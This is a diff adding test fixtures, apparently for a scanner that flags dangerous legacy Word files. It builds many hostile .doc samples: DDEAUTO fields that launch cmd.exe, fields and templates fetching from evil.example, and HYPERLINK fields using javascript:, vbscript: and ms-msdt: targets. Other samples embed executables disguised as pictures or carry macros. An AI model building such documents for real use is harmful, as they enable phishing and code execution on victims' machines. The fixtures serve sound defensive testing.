@@ -1,0 +1,219 @@
+import { compoundFile } from '../../../support/compound-file';
+import { classes, linkedObject, packagedFile } from '../../../support/ole';
+import { networkPaths, programNames, servers } from '../../../support/windows-names';
+import { oldWordFile, wordFile, wordStreams } from '../../../support/word97';
+import { type Hostile, hostileFile, patched } from './hostile';
+
+const hostile = hostileFile('doc');
+
+const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
+const field = (instruction: string) => `CV \x13 ${instruction} \x14x\x15\r`;
+const withField = (instruction: string) => wordFile({ text: field(instruction) });
+
+const fields: Hostile[] = [
+  hostile('with a field that starts a program', withField(command), 'starts a program'),
+  hostile('with such a field in wide letters', wordFile({ text: field(command), isWide: true }), 'starts a program'),
+  hostile('with such a field in pieces', wordFile({ text: field(command), cuts: [4, 7, 8, 20] }), 'starts a program'),
+  hostile('with such a field without a result', wordFile({ text: `\x13${command}\x15` }), 'starts a program'),
+  hostile('with such a field that does not end', wordFile({ text: `\x13${command}` }), 'starts a program'),
+  hostile(
+    'with such a field in another',
+    wordFile({ text: `\x13IF 1 = 1 \x13${command}\x15\x15` }),
+    'starts a program',
+  ),
+  hostile(
+    'with a field whose name is computed',
+    wordFile({ text: '\x13\x13QUOTE 68\x14D\x15DE x y\x15' }),
+    'starts a program',
+  ),
+  hostile('with zeros in a field', withField([...command].join('\0')), 'starts a program'),
+  hostile('of Word 6 with such a field', oldWordFile(field(command)), 'starts a program'),
+  ...[45, 46, 48, 78, 87, 91].map((kind) =>
+    hostile(
+      `with a field of kind ${kind}`,
+      wordFile({ text: field('LIEN x y'), kinds: { 3: kind } }),
+      'starts a program',
+    ),
+  ),
+  ...[36, 40, 55, 56, 67, 68].map((kind) =>
+    hostile(
+      `with a field of kind ${kind} from elsewhere`,
+      wordFile({ text: field('INCLURE "http://evil.example/x"'), kinds: { 3: kind } }),
+      'fetched from elsewhere',
+    ),
+  ),
+  ...[50, 51].map((kind) =>
+    hostile(
+      `with a button of kind ${kind}`,
+      wordFile({ text: field('BOUTON Xvnd.sun.star.script:x.py$run x'), kinds: { 3: kind } }),
+      'could run a macro',
+    ),
+  ),
+  hostile(
+    'with a button of a module',
+    wordFile({ text: field('BOUTON A.B x'), kinds: { 3: 51 } }),
+    'could run a macro',
+  ),
+  hostile('with a picture from elsewhere', withField('INCLUDEPICTURE \\d "http://evil.example/x.png"'), 'fetched'),
+  hostile('with a text from elsewhere', withField('INCLUDETEXT "\\\\\\\\evil.example\\\\x"'), 'fetched from elsewhere'),
+  hostile('with a link to a script', withField('HYPERLINK "javascript:alert(1)"'), 'leads to a program'),
+  hostile(
+    'with a link to a folder of another computer',
+    withField('HYPERLINK "\\\\\\\\evil.example\\\\x"'),
+    'leads to a program',
+  ),
+  ...[
+    '\x13HYPERLINK \x13QUOTE "ms-msdt:/id x"\x15\x14x\x15',
+    '\x13HYPERLINK "\x13QUOTE "file:"\x14file:\x15//evil.example/share/x"\x14x\x15',
+  ].map((text, index) =>
+    hostile(`with a link whose address is computed, ${index}`, wordFile({ text }), 'another field computes'),
+  ),
+  ...['\\s', '\\o \\t', '"\\o"'].map((switches) =>
+    hostile(
+      `with a link to a program behind ${switches}`,
+      withField(`HYPERLINK ${switches} "ms-msdt:/x"`),
+      'leads to a program',
+    ),
+  ),
+  hostile(
+    'with a link of a kind, in another language',
+    wordFile({ text: field('LIENHYPERTEXTE "vbscript:x"'), kinds: { 3: 88 } }),
+    'leads to a program',
+  ),
+];
+
+const paths: Hostile[] = [
+  ...[...servers, ...networkPaths]
+    .filter((server) => !server.includes('&'))
+    .map((template) =>
+      hostile(`with a template at ${template}`, wordFile({ text: 'CV', template }), 'on another computer'),
+    ),
+  hostile(
+    'of Word 6 with a template on a server',
+    oldWordFile('CV', { template: '\\\\evil.example\\x.dot' }),
+    'on another computer',
+  ),
+  hostile(
+    'with a template on the internet',
+    wordFile({ text: 'CV', template: 'http://evil.example/x.dot' }),
+    'on another computer',
+  ),
+  hostile(
+    'with data from elsewhere',
+    wordFile({ text: 'CV', dataSource: '\\\\evil.example\\x' }),
+    'on another computer',
+  ),
+  hostile(
+    'with heads of data from elsewhere',
+    wordFile({ text: 'CV', headerSource: '\\\\evil.example\\x' }),
+    'on another computer',
+  ),
+  hostile(
+    'with a file from elsewhere',
+    wordFile({ text: 'CV', file: 'https://evil.example/x.doc' }),
+    'on another computer',
+  ),
+];
+
+const withObject = (streams: Record<string, Buffer | string>, clsid = classes.package) =>
+  wordFile(
+    { text: 'CV' },
+    Object.fromEntries(Object.entries(streams).map(([name, data]) => [`ObjectPool/_1/${name}`, data])),
+    { 'ObjectPool/_1': clsid },
+  );
+
+const native = '\u0001Ole10Native';
+
+const objects: Hostile[] = [
+  ...programNames.map((name) =>
+    hostile(`with the file ${name} inside`, withObject({ [native]: packagedFile(name, 'x') }), 'may be a program'),
+  ),
+  hostile('with a program called a picture', withObject({ [native]: packagedFile('a.png', 'MZ') }), 'embedded program'),
+  hostile('with a control', withObject({ '\u0003OCXNAME': 'x' }), 'controls'),
+  hostile('with a browser', withObject({ CONTENTS: 'x' }, classes.browser), 'unknown kind'),
+  hostile(
+    'with an object from elsewhere',
+    withObject({ '\u0001Ole': linkedObject('http://evil.example/x') }, classes.link),
+    'on another computer',
+  ),
+  hostile(
+    'with an object on a server',
+    withObject({ '\u0001Ole': linkedObject('\\\\evil.example\\x') }, classes.link),
+    'on another computer',
+  ),
+  hostile('with macros in an object', withObject({ 'Macros/VBA/dir': 'x' }), 'macros'),
+  hostile(
+    'with a document in it that starts a program',
+    withObject(wordStreams({ text: field(command) })),
+    'starts a program',
+  ),
+  hostile('with rights that must be asked for', wordFile({ text: 'CV' }, { '\tDRMContent': 'x' }), 'password'),
+  hostile('of Word 6 with macros', oldWordFile('CV', { commands: Buffer.from([0xff, 1, 1, 0, 0, 0, 0x40]) }), 'macros'),
+];
+
+const broken: Hostile[] = [
+  hostile(
+    'whose text is not where it says',
+    patchedWord((main) => main.writeUInt32LE(0x7fffffff, 418)),
+    'damaged',
+  ),
+  hostile(
+    'whose text has no pieces',
+    patchedWord((main) => main.writeUInt32LE(0, 422)),
+    'damaged',
+  ),
+  hostile(
+    'whose fields are not where it says',
+    patchedWord((main) => main.writeUInt32LE(0x7fff, 286)),
+    'damaged',
+  ),
+  hostile('whose pieces are none', patchedTable(3), 'damaged'),
+  hostile('whose pieces share their bytes', sharedPieces(), 'damaged'),
+  hostile('whose description is cut', compoundFile({ WordDocument: cutDescription(), '1Table': 'x' }), 'damaged'),
+  hostile(
+    'with two streams of the same name',
+    patched(wordFile({ text: 'CV' }, { Worddocumenu: 'x' }), (copy) => {
+      copy.writeUInt8('t'.charCodeAt(0), copy.indexOf(Buffer.from('Worddocumenu', 'utf16le')) + 22);
+    }),
+    'damaged',
+  ),
+  hostile('with a slash in a name', renamedStream('Dat/'), 'damaged'),
+  hostile('with a zero in a name', renamedStream('Da\0a'), 'damaged'),
+];
+
+function patchedWord(change: (main: Buffer) => void): Buffer {
+  const streams = wordStreams({ text: 'CV' });
+  change(streams.WordDocument ?? Buffer.alloc(0));
+  return compoundFile(streams);
+}
+
+/** The table of pieces begins with this number instead of its own. */
+function patchedTable(start: number): Buffer {
+  const streams = wordStreams({ text: 'CV' });
+  const at = streams.WordDocument?.readUInt32LE(418) ?? 0;
+  streams['1Table']?.writeUInt8(start, at);
+  return compoundFile(streams);
+}
+
+/** A thousand pieces, all of the same text. */
+function sharedPieces(): Buffer {
+  const text = 'x'.repeat(10_000);
+  const streams = wordStreams({ text, cuts: Array.from({ length: 999 }, (_, index) => (index + 1) * 10) });
+  const table = streams['1Table'] ?? Buffer.alloc(0);
+  const at = (streams.WordDocument?.readUInt32LE(418) ?? 0) + 5;
+  for (let index = 0; index <= 1000; index += 1) table.writeUInt32LE(index * 5000, at + index * 4);
+  for (let index = 0; index < 1000; index += 1) table.writeUInt32LE(900, at + 1001 * 4 + index * 8 + 2);
+  return compoundFile(streams);
+}
+
+function cutDescription(): Buffer {
+  return (wordStreams({ text: 'CV' }).WordDocument ?? Buffer.alloc(0)).subarray(0, 300);
+}
+
+function renamedStream(name: string): Buffer {
+  return patched(wordFile({ text: 'CV' }, { Data: 'x' }), (copy) => {
+    copy.write(name, copy.indexOf(Buffer.from('Data', 'utf16le')), 'utf16le');
+  });
+}
+
+export const docsWithThingsInside: Hostile[] = [...fields, ...paths, ...objects, ...broken];
